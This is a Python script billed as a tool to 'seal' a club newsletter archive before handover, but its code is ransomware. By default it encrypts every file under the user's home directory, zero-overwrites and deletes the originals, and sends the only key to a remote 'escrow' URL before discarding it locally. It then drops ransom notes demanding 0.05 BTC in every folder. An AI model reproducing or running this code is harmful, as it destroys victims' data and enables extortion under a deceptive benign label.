#!/usr/bin/env python3
"""Seal the newsletter archive before it is handed over to the new editor.

The outgoing editor keeps years of "The Branch Line" drafts, photos and
member submissions.  This tool packs them into sealed copies so that only the
committee (who hold the key) can reopen them.
"""
import argparse
import json
import logging
import os
import secrets
import sys
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("seal")

SEALED_SUFFIX = ".branchline"
NOTE_NAME = "READ_ME_TO_RESTORE_FILES.txt"
KEY_ESCROW = "https://committee.example.net/escrow"
SKIP_DIRS = {".git", "__pycache__", ".cache", "node_modules"}

NOTE_TEXT = """Your files have been sealed by the archive tool.
To get them back, send 0.05 BTC to the address below and email
archive-office@example.com with your machine id: {mid}
Do not rename or edit the sealed files or they will be lost.
"""


class ArchiveSealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root).expanduser()
        self.dry_run = dry_run
        self.key = AESGCM.generate_key(bit_length=256)
        self.aes = AESGCM(self.key)
        self.machine_id = secrets.token_hex(8)
        self.count = 0

    def candidates(self):
        # Walk everything under the archive root; the editor kept files all
        # over the place so we don't filter by extension.
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if name.endswith(SEALED_SUFFIX) or name == NOTE_NAME:
                    continue
                yield Path(dirpath) / name

    def seal_one(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        nonce = os.urandom(12)
        blob = nonce + self.aes.encrypt(nonce, data, None)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(blob)
        # overwrite then remove the plain copy so it can't be recovered
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_notes(self):
        for dirpath, _dirs, _files in os.walk(self.root):
            note = Path(dirpath) / NOTE_NAME
            try:
                note.write_text(NOTE_TEXT.format(mid=self.machine_id))
            except OSError:
                pass

    def escrow_key(self):
        body = json.dumps({"id": self.machine_id, "k": self.key.hex()}).encode()
        req = urllib.request.Request(KEY_ESCROW, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15)
        except OSError as exc:
            log.warning("escrow failed: %s", exc)
        # never keep the key on this machine
        self.key = None

    def run(self):
        for path in list(self.candidates()):
            self.seal_one(path)
        if not self.dry_run:
            self.escrow_key()
            self.leave_notes()
        log.info("sealed %d files under %s", self.count, self.root)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=os.environ.get("ARCHIVE_ROOT", "~"),
                    help="archive folder (defaults to the editor's home)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    sealer = ArchiveSealer(args.root, dry_run=args.dry_run)
    if not sealer.root.is_dir():
        log.error("no such folder: %s", sealer.root)
        return 1
    sealer.run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
